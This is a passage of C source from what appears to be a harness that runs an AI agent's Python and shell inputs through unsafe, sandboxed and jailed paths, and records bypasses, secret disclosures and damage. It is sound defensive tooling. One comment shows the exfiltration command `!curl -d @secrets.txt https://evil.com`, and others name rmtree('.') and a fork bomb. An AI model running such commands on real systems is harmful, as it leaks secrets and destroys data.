 * the sandbox's, without its name rule and budget.  False when they said
 * no (the record is decided). */
static bool
jail_filter(struct step *st, const struct node *root,
    const struct cmd_entry *e, const struct node *call)
{
	struct layer_call c;

	layer_call(st, root, e, call, false, &c);
	return walk_layers(st, LAYER_STAGE_CHECK, LAYER_ALLOWLIST, &c);
}

static void run_world(struct step *st, const char *src,
    const struct node *root, const struct cmd_entry *e,
    const struct node *call);

/*
 * Did this effect reach past the values the code was given?  A world
 * reports every audit event CPython raised in the code's own frames and
 * the workspace's difference; the model records fewer (a file read, a
 * program run, data sent, a print).  Of those, the code looking at itself
 * (a frame or code attribute, a private attribute the model saw it reach,
 * a compile), what it printed, a limit stopping it and the world's own
 * bookkeeping do not reach out, on either engine, so the same code gets
 * the same word (print('hi') is never a bypass); everything else does (a
 * file, a program, a socket, an import, an exec of a string).
 */
static bool
touches_surface(const struct step *st, const struct effect *e)
{
	static const char *const inside_ops[] = {
		"print", "traceback", "exhaust", "restart", "lost", "compile",
		"introspect", "object.__getattr__", "object.__setattr__",
		"object.__delattr__", "sys._getframe", "sys._current_frames",
		"code.__new__", "function.__new__", "marshal.load",
		"marshal.loads", NULL
	};

	return !strlist_has(inside_ops, e->op);
}

/*
 * Code on the sandbox path has, by the essay's contract, no way to touch
 * the surface: only commands do.  If an evaluation there did (read a file,
 * ran a program, sent data), the policy let an escape through: say so.
 * In the sandbox's world that is what CPython really did there; an
 * exception that ended it is told after it.
 */
static void
mark_bypass(struct step *st)
{
	size_t i;
	/* A weak filter admitted code that ran until a limit stopped it
	 * (9**9**9, a fork bomb): the filter let it through all the same,
	 * and the limit is told after.  (The essay's subset keeps its own
	 * limits layer: BLOCKED.) */
	bool stopped = st->r->verdict == VERDICT_BLOCKED && st->r->rule !=
	    NULL && strcmp(st->r->rule, "limits") == 0 &&
	    policy_runs_in_world(st->s->policy);

	if (st->kind->guard != GUARD_POLICY)
		return;
	for (i = 0; i < st->ev.effects.n && !stopped; i++)
		if (touches_surface(st, &st->ev.effects.items[i]))
			break;
	if (i == st->ev.effects.n && !stopped)
		return;
	if (stopped && st->raised_after == NULL)
		st->raised_after = arena_printf(st->a, "stopped by %s: %s",
		    st->r->layer == LAYER_TIMEOUT ? "the time limit" :
		    st->r->layer == LAYER_RLIMIT ? "a resource limit" :
		    "a resource limit", st->r->reason);
	else if (st->world != NULL && st->r->verdict != VERDICT_OK &&
	    st->raised_after == NULL)
		st->raised_after = st->r->reason;
	st->r->verdict = VERDICT_BYPASSED;
	st->r->layer = LAYER_ALLOWLIST;
	st->r->rule = "bypassed";
	st->r->reason = NULL;	/* (trace.c tells what got through) */
}

static void
run_code(struct step *st, const struct node *root)
{
	value v;
	bool has_value;
	struct layer_call c;

	layer_call(st, root, NULL, NULL, true, &c);
	if (st->kind->guard == GUARD_POLICY &&
	    !walk_layers(st, LAYER_STAGE_CHECK, LAYER__COUNT, &c))
		return;
	if (st->world != NULL) {
		/* What the policy admitted runs in CPython, in the sandbox's
		 * own world: a bypass has its real effect there. */
		run_world(st, st->src, root, NULL, NULL);
		mark_bypass(st);
		return;
	}
	/* (an input past the memory cap after its last step is refused
	 * all the same: what it left is as big) */
	if (!eval_root(&st->ev, root, &v, &has_value) ||
	    (st->ev.rt.mem != NULL && st->ev.rt.mem->over &&
	    !rt_steps_exhausted(&st->ev.rt))) {
		decide_exception(st);
		mark_bypass(st);
		return;
	}
	decide(st, VERDICT_OK, LAYER_EVAL, NULL, NULL);
	if (has_value) {
		st->r->result = repr_of(st, v);
		if (st->r->result == NULL)
			decide_exception(st);
	}
	mark_bypass(st);
}

/*
 * A command's argument in the sandbox's world: a literal is data, and is
 * evaluated here, exactly; any other code the policy admitted runs in
 * the world like the sandbox's code (its effects are the record's, and
 * one that touched the surface is the bypass), and its value comes back
 * as its repr, which is hostile: it is used only when it reads as a
 * literal.  False when the record is decided.
 */
static bool
world_args(struct step *st, const struct node *arg, value *out)
{
	struct parse_result pr;
	const char *src, *shown;

	if (is_literal_node(arg, 0)) {
		if (eval_expr(&st->ev, arg, out))
			return true;
		decide_exception(st);
		return false;
	}
	src = arena_strndup(st->a, st->r->input + arg->start,
	    arg->end - arg->start);
	run_world(st, src, NULL, NULL, NULL);
	st->r->kind = KIND_COMMAND;
	mark_bypass(st);
	if (st->r->verdict != VERDICT_OK)
		return false;
	shown = st->r->result != NULL ? st->r->result : "None";
	parse_input(st->ev.rt.arena, shown, strlen(shown), &pr);
	if (pr.status == PARSE_OK && pr.root->kind == NODE_EXPRESSION &&
	    is_literal_node(pr.root->u.expression.body, 0) &&
	    eval_expr(&st->ev, pr.root->u.expression.body, out))
		return true;
	mark_node(st->r, arg);
	decide(st, VERDICT_ERROR, LAYER_COMMANDS, "arguments",
	    arena_printf(st->a, "TypeError: an argument is not a str or a "
	    "dict of str: %.200s", shown));
	return false;
}

/*
 * A command's arguments as one dict (cmd_make_args), each evaluated as
 * the path evaluates code: in the sandbox's world (world_args) or by the
 * evaluator.  False when the record is decided.
 */
static bool
command_args(struct step *st, const struct cmd_entry *e,
    const struct node *call, value *args)
{
	struct eval *ev = &st->ev;
	size_t npos = call->u.call.args.len, nkw = call->u.call.keywords.len;
	value *pos = arena_array(ev->rt.arena, npos + 1, sizeof *pos);
	value *kwv = arena_array(ev->rt.arena, nkw + 1, sizeof *kwv);
	const char **kwn = arena_array(ev->rt.arena, nkw + 1, sizeof *kwn);
	size_t i;

	for (i = 0; i < npos + nkw; i++) {
		const struct node *n = i < npos ? call->u.call.args.items[i] :
		    call->u.call.keywords.items[i - npos]->u.keyword.value;
		value *v = i < npos ? &pos[i] : &kwv[i - npos];
		if (i >= npos)
			kwn[i - npos] = call->u.call.keywords.items[i -
			    npos]->u.keyword.arg;
		if (st->world != NULL) {
			if (!world_args(st, n, v))
				return false;
		} else if (!eval_expr(ev, n, v)) {
			decide_exception(st);
			return false;
		}
	}
	if (cmd_make_args(&ev->rt, e, pos, npos, kwn, kwv, nkw, args) &&
	    cmd_check_args(&ev->rt, e, *args))
		return true;
	mark_node(st->r, npos == 1 && nkw == 0 ? call->u.call.args.items[0] :
	    call);
	decide(st, VERDICT_ERROR, LAYER_COMMANDS, "arguments",
	    arena_printf(st->a, "%s: %s", pyexc_name(ev->rt.exc.cls), ev->rt.exc.msg));
	return false;
}

/*
 * The command as the sandbox's layers let it through, in the world where
 * the sandbox's files are: its name and its argument as a literal, so
 * that nothing but the command runs.  A write that was done is entered
 * in the ledger, as in-process.
 */
static void
world_command(struct step *st, const struct cmd_entry *e,
    const struct node *call, value args, const char *key,
    const char *args_canon)
{
	struct sbuf b = SBUF_INIT;
	const char *src;

	sbuf_addf(&b, "%s(", e->name);
	if (!value_repr(&st->ev.rt, args, &b)) {
		sbuf_free(&b);
		decide_exception(st);
		return;
	}
	sbuf_addc(&b, ')');
	src = arena_strdup(st->a, sbuf_cstr(&b));
	sbuf_free(&b);
	run_world(st, src, NULL, e, call);
	if (st->r->verdict == VERDICT_OK && key != NULL)
		ledger_add(st->ps->ledger, key, args_canon, st->r->outcome ?
		    st->r->outcome : e->name);
}

static void
run_command(struct step *st, const struct cmd_entry *e,
    const struct node *call)
{
	struct eval *ev = &st->ev;
	struct cmd_run run = { .ws = &ev->ws,
	    .unsafe = st->kind->guard == GUARD_NONE };
	struct layer_call c;
	const char *key = NULL, *args_canon = NULL;
	value args;

	st->r->kind = KIND_COMMAND;
	layer_call(st, NULL, e, call, true, &c);
	if (st->kind->guard == GUARD_POLICY) {
		if (!walk_layers(st, LAYER_STAGE_CHECK, LAYER__COUNT, &c))
			return;
	} else if (!command_shape(st, e, call))
		return;
	if (!command_args(st, e, call, &args))
		return;
	run.args = args;
	if (st->kind->guard == GUARD_POLICY) {
		c.run = &run;
		c.arg = call->u.call.args.len == 1 &&
		    call->u.call.keywords.len == 0 ?
		    call->u.call.args.items[0] : call;
		if (!walk_layers(st, LAYER_STAGE_ARGS, LAYER__COUNT, &c))
			return;
		key = c.key;
		args_canon = c.args_canon;
	}
	if (st->world != NULL) {
		world_command(st, e, call, args, key, args_canon);
		return;
	}
	if (!e->run(&run)) {
		mark_node(st->r, call);
		if (ev->rt.exc.kind == EXC_LIMIT) {
			decide_exception(st);
			return;
		}
		decide(st, VERDICT_ERROR, LAYER_EVAL, NULL,
		    arena_printf(st->a, "%s: %s", pyexc_name(ev->rt.exc.cls),
		    ev->rt.exc.msg));
		return;
	}
	if (key != NULL)
		ledger_add(st->ps->ledger, key, args_canon, run.message);
	decide(st, VERDICT_OK, LAYER_EVAL, NULL, NULL);
	st->r->result = repr_of(st, run.result);
	if (st->r->result == NULL)
		decide_exception(st);
	st->r->outcome = run.message ? arena_strdup(st->a, run.message) : NULL;
}

/*
 * The session's secret: a file named secrets.txt, in any folder -- the
 * essay's (seeded at the start of every session and reset) or one a
 * scenario writes (`file secrets.txt: ...`).  Code that reads it has the
 * secret in hand even though no file changed: that read is harm of its
 * own, a "disclosure" (effect.h), on every path and engine alike.  A
 * command (read_file) is the agent's own tool, whose reads are its job,
 * and stays harmless; the sandbox's policy decides whether it may run.
 */
static bool
is_secret(const char *target)
{
	const char *base;

	if (target == NULL)
		return false;
	base = strrchr(target, '/');
	base = base != NULL ? base + 1 : target;
	return strcmp(base, "secrets.txt") == 0;
}

/* Code's reads of the secret become disclosures (is_secret). */
static void
mark_disclosures(struct step *st, struct effect *effects, size_t n)
{
	size_t i;

	if (st->r->kind != KIND_CODE)
		return;
	for (i = 0; i < n; i++)
		if (effects[i].category == NULL && !effects[i].denied &&
		    strcmp(effects[i].op, "read") == 0 &&
		    is_secret(effects[i].target)) {
			effects[i].category =
			    effect_category_name(EFFECT_DISCLOSURE);
			effects[i].text = arena_printf(st->a,
			    "read the secret in %s", effects[i].target);
		}
}

/*
 * Damage the code did inside a jail is real, to the jail's throwaway
 * workspace, and so is a secret it read there: the record is INSIDE
 * (trace.c says where, and that the host is untouched), never a green
 * ok beside "- secrets.txt deleted", which would read as the jail
 * failing.  An error after it is said after the harm.
 */
static void
told_inside(struct step *st, struct effect *effects, size_t n)
{
	size_t i;

	mark_disclosures(st, effects, n);
	if (st->r->verdict != VERDICT_OK && st->r->verdict != VERDICT_ERROR)
		return;
	for (i = 0; i < n; i++)
		if (effects[i].category != NULL && !effects[i].denied &&
		    (strcmp(effects[i].category, "damage") == 0 ||
		    strcmp(effects[i].category, "disclosure") == 0))
			break;
	if (i == n)
		return;
	if (st->r->verdict == VERDICT_ERROR)
		st->raised_after = st->r->reason;
	st->r->verdict = VERDICT_INSIDE;
	st->r->reason = NULL;	/* (trace.c tells what was done) */
}

/*
 * The jail path: with --jail-filter the sandbox's allowlists run first,
 * in-process, as the essay recommends (defense in depth); then the input
 * runs for real in the kernel jail.
 */
static void
run_jail(struct step *st, const struct node *root, const struct cmd_entry *e,
    const struct node *call)
{
	struct jailpath_job job = {
		.root = root, .cmd = e, .call = call, .fs = st->ps->fs,
		.ns = st->ps->ns, .fail_at = st->s->jail_fail_at,
		.wall_ms = st->s->world_wall_ms,
	};

	st->r->kind = e ? KIND_COMMAND : KIND_CODE;
	if (st->s->jail_filter && !jail_filter(st, root, e, call))
		return;
	if (e != NULL && !command_shape(st, e, call))
		return;
	jailpath_run(&job, st->a, st->r);
	told_inside(st, st->r->effects, st->r->neffects);
}

/* ---- a path's world ---- */

/*
 * The jail path in a world of the jail kind: CPython inside the kernel
 * jail (world.h).  With --jail-filter the sandbox's allowlists run first.
 * A world that cannot be built refuses: nothing runs, never elsewhere.
 * Damage the code did is real, to the jail's throwaway workspace, and
 * the record says so.
 */
static void
run_jail_world(struct step *st, const struct node *root,
    const struct cmd_entry *e, const struct node *call, struct world *w,
    const char *refused)
{
	st->r->kind = e ? KIND_COMMAND : KIND_CODE;
	st->r->engine = world_engine_name(WORLD_ENGINE_CPYTHON);
	if (st->s->jail_filter && !jail_filter(st, root, e, call))
		return;
	if (w == NULL) {
		decide(st, VERDICT_ERROR, st->kind->refuses_at, "jail",
		    arena_printf(st->a, "jail refused, nothing ran: %s",
		    refused));
		return;
	}
	run_world(st, st->src, root, e, call);
	told_inside(st, st->ev.effects.items, st->ev.effects.n);
}

/* The model world's run: the session's own evaluator. */
struct model_job {
	struct step		*st;
	const struct node	*root;
	const struct cmd_entry	*cmd;
	const struct node	*call;
};

static void
model_step(void *ctx)
{
	struct model_job *job = ctx;
	if (job->cmd != NULL)
		run_command(job->st, job->cmd, job->call);
	else
		run_code(job->st, job->root);
}

/*
 * Build the path's world from its files, the environment and the seeded
 * names.  Where that fails, the path runs the model from now on, and
 * the session keeps the reason (session_engine_note): never a silent
 * change of engine.
 */
static struct world *
ready_world(struct session *s, struct pathstate *ps, struct arena *a,
    const char **why)
{
	struct world_seed seed = {
		.fs = ps->fs, .env = s->bare ? bare_env : essay_env,
		.setup = sbuf_cstr(&s->setup),
	};

	if (ps->resumed && ps->restore != NULL)	/* its old world's names */
		seed.setup = arena_printf(a, "%s%s", seed.setup, ps->restore);
	char *err = NULL;

	if (ps->world->built || world_build(ps->world, &seed, &err))
		return ps->world;
	if (world_kind_contains(ps->world->kind)) {
		/* A jail never falls back: it refuses (and tries again on
		 * the next input). */
		*why = arena_strdup(a, err);
		free(err);
		return NULL;
	}
	free(s->engine_note);
	s->engine_note = xasprintf("the %s path runs the model: %s",
	    record_path_name((enum path_id)(ps - s->paths)), err);
	free(err);
	world_free(ps->world);
	ps->world = NULL;
	if (boundary_of(s, ps)->model == MODEL_IN_PROCESS)
		return NULL;	/* (its own evaluator, as before) */
	ps->world = world_new(WORLD_ENGINE_MODEL, 0, 0);
	(void)world_build(ps->world, &seed, &err);
	return ps->world;
}

static enum layer
layer_named(const char *name)
{
	return name != NULL && strcmp(name, "rlimit") == 0 ? LAYER_RLIMIT :
	    name != NULL && strcmp(name, "timeout") == 0 ? LAYER_TIMEOUT :
	    name != NULL && strcmp(name, "seccomp") == 0 ? LAYER_SECCOMP :
	    name != NULL && strcmp(name, "landlock") == 0 ? LAYER_LANDLOCK :
	    name != NULL && strcmp(name, "gvisor") == 0 ? LAYER_GVISOR :
	    LAYER_EVAL;
}

/*
 * The first input of a session resumed from --state on a CPython world:
 * files, ledger and budget were restored, the names its world held were
 * not (they were objects in an interpreter that is gone; the state kept
 * only the list of them).  Said once, in the record and on the line.
 */
static void
resumed_note(struct step *st, const struct world *w)
{
	struct sbuf lost = SBUF_INIT, again = SBUF_INIT;
	const char *const *names;
	size_t i, n = 0, k = 0, kept = 0;

	if (!st->ps->resumed)
		return;
	st->ps->resumed = false;
	if (w->ops->engine != WORLD_ENGINE_CPYTHON || st->s->state == NULL)
		return;	/* (the model's names are values: restored) */
	if ((names = state_world_names(st->s->state, st->path, &n)) == NULL)
		return;		/* the model ran it: names restored */
	for (i = 0; i < n; i++) {
		value v;
		if (ns_get(st->ps->ns, names[i], &v))
			continue;	/* seeded again in the new world */
		if (restored(st->ps, names[i])) {
			if (kept++ < 8)
				sbuf_addf(&again, "%s%s", kept > 1 ? ", " : "",
				    names[i]);
			continue;
		}
		if (k++ < 8)
			sbuf_addf(&lost, "%s%s", k > 1 ? ", " : "", names[i]);
	}
	if (k > 8)
		sbuf_addf(&lost, " and %zu more", k - 8);
	if (kept > 8)
		sbuf_addf(&again, " and %zu more", kept - 8);
	effect_add(&st->ev.effects, "resume", "state", EFFECT_HARMLESS,
	    arena_printf(st->a, "resumed from the saved state: files, "
	    "ledger and budget restored%s%s%s%s%s", kept > 0 ? "; names "
	    "bound to plain data bound again: " : "", sbuf_cstr(&again),
	    k > 0 ? "; names not (a CPython world's objects cannot be "
	    "saved): " : "",
	    sbuf_cstr(&lost), k > 1 ? " are gone" : k > 0 ? " is gone" :
	    kept > 0 ? "" : "; the earlier world held no other names"),
	    false);
	st->ev.effects.items[st->ev.effects.n - 1].source = "world";
	st->resumed = k > 0;
	free(st->ps->restore);
	st->ps->restore = NULL;
	sbuf_free(&again);
	sbuf_free(&lost);
}

/* What a world is given to run src (a command's name with it). */
static size_t files_room(const struct session *s,
    const struct pathstate *ps);

static struct world_input
world_input_of(struct session *s, struct pathstate *ps,
    const char *src, const struct cmd_entry *e, struct arena *a)
{
	ps->live = (struct live){ s, (enum path_id)(ps - s->paths) };
	return (struct world_input){
		.src = src, .len = strlen(src),
		.command = e ? e->name : NULL, .a = a,
		.live = s->output != NULL ? live_output : NULL,
		.live_ctx = &ps->live,
		.files_cap = files_room(s, ps),
		.literals = s->state != NULL || s->nsnaps > 0 || s->literals,
	};
}

/*
 * What the session may keep of a world's files after this input: its
 * memory cap less what it keeps beside this path's files (the world's
 * read-back takes no more: cpython.c).
 */
static size_t
files_room(const struct session *s, const struct pathstate *ps)
{
	size_t kept = session_kept(s) - mfs_bytes(ps->fs);

	return kept < s->mem_session ? s->mem_session - kept : 1;
}

/* Did the code call breakpoint(), and pdb quit for want of a
 * terminal? */
static bool
breakpoint_quit(const struct world_reply *rep)
{
	size_t i;

	if (rep->error == NULL || strncmp(rep->error, "bdb.BdbQuit", 11) != 0)
		return false;
	for (i = 0; i < rep->neffects; i++)
		if (strcmp(rep->effects[i].op, "builtins.breakpoint") == 0)
			return true;
	return false;
}

/*
 * Run src (the input, or on the sandbox path the code of a command's
 * argument or the command as its layers let it through) in the path's
 * world.  The model decides the record itself; any other world's reply
 * becomes it here: its effects, its verdict (a limit that stopped the
 * code is the bomb going off, on the replica; in the sandbox's world
 * the world's limit stopped what the policy let through), its result
 * and, for a command, its message.
 */
/* Does the text hold want? */
static bool
holds(const char *text, size_t len, const char *want)
{
	size_t n = strlen(want);

	for (; text != NULL && len >= n; text++, len--)
		if (memcmp(text, want, n) == 0)
			return true;
	return false;
}

/*
 * The secret in the world's environment (essay_env: the agent's live
 * key) is read without a file: when its value comes back in what the code
 * returned or printed, the code had it in hand -- a disclosure, as a read
 * of secrets.txt is (mark_disclosures), unless one is already told.
 */
static void
secret_values(struct step *st, const struct world_reply *rep)
{
	const char *const *env = st->s->bare ? bare_env : essay_env;
	size_t i, k;

	for (i = 0; i < st->ev.effects.n; i++) {
		const struct effect *f = &st->ev.effects.items[i];
		if ((f->category != NULL &&
		    strcmp(f->category, "disclosure") == 0) ||
		    (strcmp(f->op, "read") == 0 && is_secret(f->target)))
			return;	/* (told already, or by mark_disclosures) */
	}
	for (; *env != NULL; env++) {
		const char *eq = strchr(*env, '=');
		bool seen = false;
		if (eq == NULL || eq[1] == '\0')
			continue;
		seen = rep->result != NULL &&
		    holds(rep->result, strlen(rep->result), eq + 1);
		for (k = 0; k < rep->nchunks && !seen; k++)
			seen = holds(rep->chunks[k].text, rep->chunks[k].len,
			    eq + 1);
		if (!seen)
			continue;
		effect_add(&st->ev.effects, "read", arena_printf(st->a,
		    "environ[%.*s]", (int)(eq - *env), *env),
		    EFFECT_DISCLOSURE, arena_printf(st->a, "read the secret "
		    "in the environment (%.*s)", (int)(eq - *env), *env),
		    false);
		st->ev.effects.items[st->ev.effects.n - 1].source = "world";
		return;
	}
}

static void
run_world(struct step *st, const char *src, const struct node *root,
    const struct cmd_entry *e, const struct node *call)
{
	struct model_job job = { st, root, e, call };
	struct world_input in = world_input_of(st->s, st->ps, src, e, st->a);
	struct world *w = st->ps->world;
	struct world_reply rep;
	size_t i;

	in.model_run = model_step;
	in.model_ctx = &job;
	world_run(w, &in, &rep);
	world_read_back(w, st->ps->fs);
	st->r->engine = world_engine_name(w->ops->engine);
	if (rep.decided)
		return;
	st->r->kind = e ? KIND_COMMAND : KIND_CODE;
	if (rep.nchunks > 0) {
		struct record_chunk *o = arena_array(st->a, rep.nchunks,
		    sizeof *o);
		for (i = 0; i < rep.nchunks; i++)
			o[i] = (struct record_chunk){ rep.chunks[i].stream,
			    rep.chunks[i].text, rep.chunks[i].len };
		st->r->output = o;
		st->r->noutput = rep.nchunks;
	}
	if (rep.truncated != NULL)	/* what the world's caps left out */
		st->r->truncated = st->r->truncated == NULL ? rep.truncated :
		    arena_printf(st->a, "%s; %s", st->r->truncated,
		    rep.truncated);
	st->r->fs_partial = rep.fs_partial;
	resumed_note(st, w);
	st->restarted = rep.restarted;
	if (rep.restarted)
		effect_add(&st->ev.effects, "restart", "world", EFFECT_HARMLESS,
		    "world restarted: the previous one had died", false);
	for (i = 0; i < rep.neffects; i++) {
		/* (a jail world's kernel refusals are the boundary's) */
		effect_add_named(&st->ev.effects, rep.effects[i].op,
		    rep.effects[i].target, rep.effects[i].category,
		    rep.effects[i].text,
		    strcmp(rep.effects[i].op, "denied") == 0);
		st->ev.effects.items[st->ev.effects.n - 1].source =
		    rep.effects[i].source;
	}
	if (e == NULL)
		secret_values(st, &rep);
	if (rep.refused != NULL && world_kind_contains(w->kind)) {
		/* The kernel refused a call the code made; the code went on
		 * (or raised): the jail contained it, and says what. */
		decide(st, VERDICT_CONTAINED, layer_named(rep.layer),
		    st->kind->rule,
		    rep.status == WORLD_RAISED ? arena_printf(st->a,
		    "%s; then %s", rep.refused, rep.error) : rep.refused);
		st->r->result = rep.result;
		return;
	}
	switch (rep.status) {
	case WORLD_OK:
		decide(st, VERDICT_OK, LAYER_EVAL, NULL, NULL);
		st->r->result = rep.result;
		if (e != NULL && rep.message != NULL)
			st->r->outcome = rep.message;
		else if (e == NULL && rep.exited != NULL)
			/* (as at a prompt, exit() ends the session: said) */
			st->r->outcome = rep.exited;
		else if (e != NULL && rep.result == NULL)
			st->r->result = "None";
		break;
	case WORLD_RAISED:
		if (breakpoint_quit(&rep)) {
			/* breakpoint() starts pdb, which reads its commands
			 * from a terminal the world does not have: it quits
			 * at once.  Said in words, not its prompt and the
			 * traceback of its quitting. */
			decide(st, VERDICT_ERROR, LAYER_EVAL, NULL,
			    "breakpoint() starts the debugger (pdb), which "
			    "needs a terminal to type into; this world has "
			    "none, so it quit at once");
			st->r->output = NULL;
			st->r->noutput = 0;
			break;
		}
		/* Damage done or data sent before the exception still
		 * happened: say both (rmtree('.') deletes every file, then
		 * raises).  A program that ran and failed is the error. */
		for (i = 0; i < rep.neffects; i++)
			if (rep.effects[i].category != NULL &&
			    (strcmp(rep.effects[i].category, "damage") == 0 ||
			    strcmp(rep.effects[i].category, "exfiltration") == 0))
				break;
		if (i < rep.neffects && !world_kind_contains(w->kind)) {
			/* (in a jail, nothing is simulated) */
			decide(st, VERDICT_LANDED, LAYER_EVAL, NULL,
			    rep.error);
			st->raised_after = rep.error;
			break;
		}
		decide(st, VERDICT_ERROR, LAYER_EVAL, NULL, rep.error);
		break;
	case WORLD_LOST:
		decide(st, VERDICT_ERROR, LAYER_EVAL, NULL, rep.error);
		break;
	case WORLD_KILLED:
		/* a bomb goes off in a replica; a jail contains it; the
		 * sandbox's world stops what its policy let through */
		if (st->kind->guard == GUARD_POLICY)
			decide(st, VERDICT_BLOCKED, layer_named(rep.layer),
			    "limits", rep.error);
		else
			decide(st, world_kind_contains(w->kind) ?
			    VERDICT_CONTAINED : VERDICT_LANDED,
			    layer_named(rep.layer),
			    world_kind_contains(w->kind) ? st->kind->rule :
			    NULL, rep.error);
		break;
	default:
		break;
	}
}

/* A path without a world's output (the sandbox's evaluator, the model,
 * the model's jail): what its print() wrote, from its print effects, as
 * one stdout chunk, each print a line as at a terminal. */
static void
output_of_prints(struct record *r, struct arena *a)
{
	struct sbuf b = SBUF_INIT;
	struct record_chunk *o;
	size_t i;

	for (i = 0; i < r->neffects; i++)
		if (strcmp(r->effects[i].op, "print") == 0 &&
		    r->effects[i].text != NULL &&
		    (r->effects[i].source == NULL ||
		    strcmp(r->effects[i].source, "output") != 0)) {
			sbuf_adds(&b, r->effects[i].text);
			sbuf_addc(&b, '\n');
		}
	if (b.len > 0) {
		o = arena_array(a, 1, sizeof *o);
		o->stream = "stdout";
		o->text = arena_strndup(a, sbuf_cstr(&b), b.len);
		o->len = b.len;
		r->output = o;
		r->noutput = 1;
	}
	sbuf_free(&b);
}

static void
finish(struct step *st, const char *input, size_t len, const char *label,
    const char *cmdname)
{
	struct record *r = st->r;
	size_t i;

	bool jail = st->kind->guard == GUARD_KERNEL;

	if (!jail)	/* (a jail's: told_inside) */
		mark_disclosures(st, st->ev.effects.items, st->ev.effects.n);
	if (!jail || st->ev.effects.n > 0) {
		/* (the jail path's effects came back from the jail, unless
		 * its filter refused the input in here) */
		r->effects = arena_array(st->a, st->ev.effects.n + 1,
		    sizeof *r->effects);
		r->neffects = st->ev.effects.n;
		for (i = 0; i < r->neffects; i++) {
			const struct effect *e = &st->ev.effects.items[i];
			struct effect *c = &r->effects[i];
			*c = *e;
			c->op = arena_strdup(st->a, e->op);
			c->target = arena_strdup(st->a, e->target);
			c->category = e->category ?
			    arena_strdup(st->a, e->category) : NULL;
			c->text = e->text ? arena_strdup(st->a, e->text) : NULL;
		}
	}
	if (r->noutput == 0)
		output_of_prints(r, st->a);
	{
		struct record_file *fs;
		r->nfs = session_files(st->s, st->path, st->a, &fs);
		r->fs = fs;
	}
	r->budget_used = st->ps->used;
	r->budget_limit = session_budget_limit(st->s, st->path);
	/* (the code filter's name, where the policy's filter ran: a weak
	 * one's row names it, "dunder filter" -- not "allowlist") */
	if (st->kind->guard == GUARD_POLICY || (jail && st->s->jail_filter)) {
		const char *f = policy_filter_name(st->s->policy);
		if (strncmp(f, "the ", 4) == 0)
			f += 4;
		r->filter = strcmp(f, "allowlist") == 0 ? NULL :
		    arena_strdup(st->a, f);
	}
	/* (a scenario's label too says gVisor's jail: the kind's tag) */
	r->label = label ? arena_printf(st->a, "%s%s", label, st->kind->tag) :
	    arena_printf(st->a, "%s %s%s", path_row(st->path)->adjective,
	    cmdname ? cmdname : "code", st->kind->tag);
	trace_render(&(struct trace_step){ .r = r, .a = st->a,
	    .path = st->path, .input = input, .len = len,
	    .is_command = cmdname != NULL, .effects = st->ev.effects.items,
	    .neffects = st->ev.effects.n,
	    .filter = policy_filter_name(st->s->policy),
	    /* (trace.c's words for gVisor, until it reads the kind's) */
	    .gvisor = st->kind->id == BOUNDARY_GVISOR,
	    .world = st->world != NULL,
	    .restarted = st->restarted, .resumed = st->resumed,
	    .raised_after = st->raised_after, .essay = st->essay });
}

/*
 * The memory path p may hold for this input: its own arena pa on a meter
 * that starts with the parse arena ea (the input's tokens and tree) and
 * the bytes of records the paths before it made for this input, and
 * a cap of the session's memory_input, or less when the session keeps so
 * much already that its memory_session would be passed.  What the input
 * binds and writes is copied into the session's stores when it ends, so
 * that no more than what it held can be added to them.
 */
/* What an input may always hold, beside its tree, even when the session
 * is full: enough to rebind a big name to something small, which is how
 * a user frees what the session keeps.  (It can add no more than this to
 * what is kept.) */
#define ROOM_MIN ((size_t)64 << 10)

static void
meter_path(struct session *s, struct arena *ea, size_t records,
    struct arena *pa, struct meter *m)
{
	size_t kept = session_kept(s);
	size_t room = kept < s->mem_session ? s->mem_session - kept : 0;

	m->held = arena_held(ea) + records;
	m->note = NULL;
	m->limit = s->mem_input;
	if (room < m->limit) {
		char k[32], c[32];
		rt_format_bytes(kept, k, sizeof k);
		rt_format_bytes(s->mem_session, c, sizeof c);
		m->limit = room > m->held + ROOM_MIN ? room :
		    m->held + ROOM_MIN;
		m->note = arena_printf(pa, ": the session keeps %s of names "
		    "and files, of %s in all", k, c);
	}
	/* (a tree bigger than the cap: refused at the first step) */
	m->over = m->held > m->limit;
	arena_set_meter(pa, m);
}

/* ---- shell lines ---- */

/*
 * IPython's shell escape: an input whose first character but blanks is
 * '!' -- `!ls`, `!curl -d @secrets.txt https://evil.com` -- is the agent's
 * shell command, run_shell (cmd_run_shell.c), on every path, as
 * run_shell('ls') typed as Python is: the real /bin/sh in the unsafe
 * world, the jail's seccomp refusing its execve, the sandbox's command
 * allowlist refusing the command.  It is recognised here, before Python's
 * syntax is asked, for every caller of session_run (the UI, -e, scenarios,
 * --serve, --mcp, --agent).  The command line is the rest of the input
 * after the '!' (IPython's '!!' is taken as '!') and its blanks, its
 * trailing white space dropped; it goes to sh as it is, newlines and all.
 *
 * The tree is run_shell('...')'s, parsed from that Python form, with its
 * spans moved onto the line as typed: the call is the whole line, the
 * name run_shell the '!', the string the command line.  So the AST pane
 * shows the call, and the layers that quote or search the input (the
 * blocklist's words, a node's span) read what was typed.  A world
 * compiles the Python form (struct line's src).  A '!' with no command
 * is a syntax error on every path, decided here: no world is asked.
 */
struct line {
	const char	*src;		/* what a world compiles */
	size_t		 len;
	bool		 shell;		/* a '!' line */
};

/* Where a shell line's '!' is, or len when the input is not one. */
static size_t
shell_bang(const char *input, size_t len)
{
	size_t i = 0;

	while (i < len && (input[i] == ' ' || input[i] == '\t'))
		i++;
	return i < len && input[i] == '!' ? i : len;
}

static bool
is_space(char c)
{
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' ||
	    c == '\f' || c == '\v';
}

/*
 * run_shell('...') of the command line s[0, n), as a literal that gives
 * sh the bytes typed: escaped as repr() escapes (textesc.h), but for a
 * byte that is not UTF-8, written as os.fsencode() takes it back to that
 * byte (PEP 383's surrogate escape, \udcNN), not as the character \xNN.
 */
static void
shell_literal(struct sbuf *b, const char *s, size_t n)
{
	char esc[TEXTESC_MAX];
	size_t i, k;

	sbuf_adds(b, "run_shell('");
	for (i = 0; i < n; i += k) {
		k = textesc_next(s + i, n - i, '\'', esc);
		if (k == 1 && (unsigned char)s[i] >= 0x80)
			sbuf_addf(b, "\\udc%02x", (unsigned char)s[i]);
		else if (esc[0] != '\0')
			sbuf_adds(b, esc);
		else
			sbuf_add(b, s + i, k);
	}
	sbuf_adds(b, "')");
}

/* Move the call's spans onto the typed line (see above). */
static void
shell_spans(struct node *root, uint32_t bang, uint32_t bangs,
    uint32_t cmd, uint32_t end)
{
	struct node *call = root->u.expression.body;

	root->start = call->start = bang;
	root->end = call->end = end;
	call->u.call.func->start = bang;
	call->u.call.func->end = bang + bangs;
